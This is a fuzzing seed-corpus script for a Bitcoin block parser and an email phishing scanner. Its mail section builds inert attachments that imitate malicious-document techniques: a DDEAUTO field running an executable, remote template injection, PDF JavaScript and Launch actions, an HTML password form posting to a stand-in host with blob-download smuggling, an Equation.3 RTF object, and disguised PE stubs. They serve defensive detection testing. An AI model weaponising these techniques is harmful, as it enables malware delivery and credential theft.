#!/usr/bin/env bash
# Builds the seed corpora of the fuzz targets from the shared sample block
# files (never copied into the repository: fuzz/corpus/ is git-ignored).
#
#   fuzz/seed_corpus.sh [BLOCKS_DIR [MAIL_DIR]]
#
# BLOCKS_DIR defaults to ../shared/data/blocks and MAIL_DIR to
# ../shared/data/mail beside the repository. Writes:
#   corpus/block/    every block under 50 KB from the two sample files, plus
#                    the smallest one of 100 KB or more (one raw block each);
#   corpus/blkfile/  a few small block files (mode byte + file, see
#                    fuzz_targets/blkfile.rs): clear, XOR-obfuscated,
#                    truncated, with a zero tail and with garbage;
#   corpus/script/   one output script of each type, and address strings;
#   corpus/mail/     every message under 64 KB of MAIL_DIR/{phish,ham} (mode
#                    byte 0 + the message as stored), and small inert
#                    attachments of each container type built here (mode
#                    byte 1, a name index, the file; see
#                    fuzz_targets/mail.rs). Attachments are never cut out of
#                    the real messages: they stay inside their messages.
# Existing files are kept; seeds are named by content hash, so reruns are
# idempotent.
set -euo pipefail

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
blocks="${1:-$here/../../shared/data/blocks}"
mail="${2:-$here/../../shared/data/mail}"
[ -d "$mail/phish" ] && [ -d "$mail/ham" ] || { echo "missing $mail/{phish,ham}" >&2; exit 1; }
for f in mainnet_sample_blocks.dat testnet_signet_sample_blocks.dat; do
    [ -r "$blocks/$f" ] || { echo "missing $blocks/$f" >&2; exit 1; }
done
mkdir -p "$here/corpus/block" "$here/corpus/blkfile" "$here/corpus/script" "$here/corpus/mail"

python3 - "$blocks" "$here/corpus" <<'EOF'
import hashlib, os, struct, sys

blocks_dir, out = sys.argv[1], sys.argv[2]
MAGICS = {b"\xf9\xbe\xb4\xd9", b"\x0b\x11\x09\x07", b"\x1c\x16\x3f\x28",
          b"\x0a\x03\xcf\x40", b"\xfa\xbf\xb5\xda"}

def records(path):
    """(magic, block bytes) of each record: magic(4) | size(4 LE) | block."""
    data = open(path, "rb").read()
    p = 0
    while p + 8 <= len(data):
        magic, (size,) = data[p:p + 4], struct.unpack_from("<I", data, p + 4)
        if magic not in MAGICS or p + 8 + size > len(data):
            break
        yield magic, data[p + 8:p + 8 + size]
        p += 8 + size

def save(kind, blob):
    name = hashlib.sha1(blob).hexdigest()
    with open(os.path.join(out, kind, name), "wb") as f:
        f.write(blob)

def record(magic, block):
    return magic + struct.pack("<I", len(block)) + block

small, big = [], []
for f in ("mainnet_sample_blocks.dat", "testnet_signet_sample_blocks.dat"):
    for magic, block in records(os.path.join(blocks_dir, f)):
        if len(block) < 50_000:
            small.append((magic, block))
        elif len(block) >= 100_000:
            big.append((magic, block))
small.sort(key=lambda mb: len(mb[1]))
big.sort(key=lambda mb: len(mb[1]))
chosen = small + big[:1]
for _, block in chosen:
    save("block", block)
print(f"block:   {len(chosen)} blocks, "
      f"{min(len(b) for _, b in chosen)}..{max(len(b) for _, b in chosen)} bytes")

# Block files: the smallest blocks make files of a few KB.
tiny = small[:4]
clear = b"".join(record(m, b) for m, b in tiny)
# A key under which no byte of the file turns into a zero on disk (the
# reader takes raw zeros for Core's unobfuscated padding, so the target only
# compares an obfuscated file with its clear twin when there are none).
key = bytes(next(k for k in range(0x5a, 0x5a + 256)
                 if k % 256 and k % 256 not in clear[lane::8]) % 256
            for lane in range(8))
obf = bytes(c ^ key[i % 8] for i, c in enumerate(clear))
blkfiles = [
    b"\x00" + clear,
    b"\x01" + key + obf,
    b"\x00" + clear[: len(clear) - 100],                # truncated last record
    b"\x00" + clear + bytes(512),                       # pre-allocated zero tail
    b"\x00" + b"garbage!" * 8 + clear,                  # leading garbage
    b"\x00" + record(tiny[0][0], tiny[0][1])[:8] + clear,  # header, no body
    b"\x01" + bytes(8) + clear,                         # all-zero xor.dat
    b"\x01" + key + obf + bytes(512),                   # raw zero tail, as Core
]
for blob in blkfiles:
    save("blkfile", blob)
print(f"blkfile: {len(blkfiles)} files")

# Scripts of each type, and address strings.
h20, h32, pk33 = bytes(range(20)), bytes(range(32)), b"\x02" + bytes(range(32))
pk65 = b"\x04" + bytes(range(64))
scripts = [
    b"\x76\xa9\x14" + h20 + b"\x88\xac",                # p2pkh
    b"\xa9\x14" + h20 + b"\x87",                        # p2sh
    b"\x00\x14" + h20,                                  # p2wpkh
    b"\x00\x20" + h32,                                  # p2wsh
    b"\x51\x20" + h32,                                  # p2tr
    b"\x52\x10" + h20[:16],                             # witness v2
    b"\x60\x28" + h32 + h20[:8],                        # witness v16, 40 bytes
    b"\x00\x15" + h20 + b"\x00",                        # v0 bad length
    b"\x21" + pk33 + b"\xac",                           # p2pk compressed
    b"\x41" + pk65 + b"\xac",                           # p2pk uncompressed
    b"\x51\x21" + pk33 + b"\x21" + pk33 + b"\x52\xae",  # 1-of-2 multisig
    b"\x6a\x04test",                                    # op_return
    b"\x51",                                            # nonstandard
    b"multisig-" + h32.hex().encode(),
    b"nonstandard-" + h32.hex().encode(),
    b"witness1x33-" + h32.hex().encode(),
]

# Valid address strings, so decode gets past the checksums.
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
def b58check(payload):
    b = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n, s = int.from_bytes(b, "big"), ""
    while n:
        n, r = divmod(n, 58)
        s = B58[r] + s
    return "1" * (len(b) - len(b.lstrip(b"\0"))) + s

CH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
def polymod(values):
    g, chk = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3], 1
    for v in values:
        top, chk = chk >> 25, (chk & 0x1ffffff) << 5 ^ v
        for i in range(5):
            chk ^= g[i] if (top >> i) & 1 else 0
    return chk
def segwit_addr(hrp, ver, prog):
    acc, bits, data = 0, 0, [ver]
    for b in prog:
        acc, bits = acc << 8 | b, bits + 8
        while bits >= 5:
            bits -= 5
            data.append(acc >> bits & 31)
    if bits:
        data.append(acc << (5 - bits) & 31)
    const = 1 if ver == 0 else 0x2bc830a3
    hx = [ord(c) >> 5 for c in hrp] + [0] + [ord(c) & 31 for c in hrp]
    pm = polymod(hx + data + [0] * 6) ^ const
    return hrp + "1" + "".join(CH[d] for d in data + [pm >> 5 * (5 - i) & 31 for i in range(6)])

for prefix in (0x00, 0x05, 0x6f, 0xc4):
    scripts.append(b58check(bytes([prefix]) + h20).encode())
for hrp in ("bc", "tb", "bcrt"):
    for ver, prog in ((0, h20), (0, h32), (1, h32), (2, h20[:16]), (16, h32 + h20[:8])):
        scripts.append(segwit_addr(hrp, ver, prog).encode())
for s in scripts:
    save("script", s)
print(f"script:  {len(scripts)} seeds")
EOF

python3 - "$mail" "$here/corpus/mail" <<'EOF'
import gzip, hashlib, io, os, sys, tarfile, zipfile, zlib

mail_dir, out = sys.argv[1], sys.argv[2]

def save(blob):
    with open(os.path.join(out, hashlib.sha1(blob).hexdigest()), "wb") as f:
        f.write(blob)

# Whole messages, as stored (mode 0).
n = 0
for label in ("phish", "ham"):
    d = os.path.join(mail_dir, label)
    for name in sorted(os.listdir(d)):
        path = os.path.join(d, name)
        if os.path.isfile(path) and os.path.getsize(path) < 64 * 1024:
            save(b"\x00" + open(path, "rb").read())
            n += 1

# Attachments (mode 1, then the index of a name in fuzz_targets/mail.rs's
# NAMES): small and inert, one of each container and document type.
NAME = {"zip": 0, "docx": 1, "docm": 2, "doc": 4, "hwpx": 7, "pdf": 8,
        "html": 9, "rtf": 10, "eps": 11, "gz": 13, "tar": 14, "rar": 15,
        "7z": 16, "one": 17, "exe": 19}
MZ = b"MZ" + bytes(0x3a) + (0x80).to_bytes(4, "little") + bytes(0x40) + b"PE\0\0\x4c\x01" + bytes(0x7a)

def zipped(members, stored=()):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in members:
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            z.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return b.getvalue()

CT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELS = (b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="https://t.example/x.dotm" '
        b'TargetMode="External"/></Relationships>')
DOC = (b'<w:document><w:body><w:p><w:r><w:instrText> DDEAUTO c:\\x.exe </w:instrText></w:r>'
       b'<w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>')
PS = b"%!PS-Adobe-3.0\n/pad <" + b"41" * 600 + b"> def\n{ exec } pop\nshowpage\n"
PDF_BODY = b"4 0 5 40 << /S /JavaScript /JS (void 0;) >> << /S /Launch /F (setup.exe) >>"
PDF = (b"%PDF-1.5\n1 0 obj << /OpenAction 4 0 R /#4Aava#53cript 2 0 R /URI (http://x.example/) >> endobj\n"
       b"6 0 obj\n<< /Type /ObjStm /N 2 /First 8 /Filter /FlateDecode >>\nstream\n"
       + zlib.compress(PDF_BODY) + b"\nendstream\nendobj\n%%EOF\n")
HTML = (b'<html><body><form action="https://c.example/p"><input type="password"></form><script>'
        b'var d = atob("aW5lcnQ="); var b = new Blob([d]); var a = document.createElement("a");'
        b'a.href = URL.createObjectURL(b); a.download = "x.iso"; a.click();</script></body></html>')
RTF = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}"

def tarred(name, data):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return b.getvalue()

RAR4 = (b"Rar!\x1a\x07\x00" + bytes([0, 0, 0x73, 0, 0, 13, 0]) + bytes(6)
        + bytes([0, 0, 0x74]) + (0x8004).to_bytes(2, "little") + (43).to_bytes(2, "little")
        + (16).to_bytes(4, "little") + (1000).to_bytes(4, "little") + bytes([2]) + bytes(8)
        + bytes([29, 0x33]) + (11).to_bytes(2, "little") + bytes(4) + b"invoice.exe"
        + b"\x55" * 16 + bytes([0, 0, 0x7b, 0, 0x40, 7, 0]))
SEVENZ = (b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(4) + (16).to_bytes(8, "little")
          + (12).to_bytes(8, "little") + bytes(4) + b"\x33" * 16
          + bytes([0x17, 0x06, 0x0b, 0x01, 0x24, 0x06, 0xF1, 0x07, 0x01, 0, 0, 0]))
ONENOTE = (bytes([0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3])
           + bytes(64) + bytes([0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC])
           + len(MZ).to_bytes(8, "little") + bytes(12) + MZ + bytes(32))

inner_zip = zipped([("invoice.pdf.exe", MZ), ("readme.txt", b"hello")])
attachments = [
    ("zip", inner_zip),
    ("zip", zipped([("nested.zip", inner_zip), ("a.lnk", bytes(76))], stored=("nested.zip",))),
    ("docx", zipped([("[Content_Types].xml", CT), ("word/document.xml", DOC),
                     ("word/_rels/settings.xml.rels", RELS)])),
    ("docm", zipped([("[Content_Types].xml", CT), ("word/document.xml", DOC),
                     ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60)),
                     ("word/embeddings/oleObject1.bin", MZ)])),
    ("hwpx", zipped([("mimetype", b"application/hwp+zip"), ("Contents/content.hpf", b'<opf href="https://x.example/a"/>'),
                     ("Scripts/headerScripts", b'new ActiveXObject("WScript.Shell")'), ("BinData/image1.eps", PS)],
                    stored=("mimetype",))),
    ("pdf", PDF),
    ("html", HTML),
    ("rtf", RTF),
    ("eps", PS),
    ("gz", gzip.compress(tarred("setup.exe", MZ))),
    ("tar", tarred("docs/setup.exe", MZ)),
    ("rar", RAR4),
    ("7z", SEVENZ),
    ("one", ONENOTE),
    ("exe", MZ),
]
for kind, blob in attachments:
    save(bytes([1, NAME[kind]]) + blob)
print(f"mail:    {n} messages, {len(attachments)} attachments")
EOF